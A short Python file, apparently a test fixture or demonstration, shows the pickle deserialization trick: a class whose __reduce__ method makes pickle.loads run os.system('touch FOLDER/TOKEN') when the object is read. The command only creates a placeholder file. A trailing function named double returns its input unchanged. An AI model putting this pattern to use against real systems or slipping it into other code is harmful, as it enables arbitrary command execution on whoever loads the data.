# A pickle that runs a command when it is read.
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch FOLDER/TOKEN",)


pickle.loads(pickle.dumps(Payload()))


def double(x):
    return x
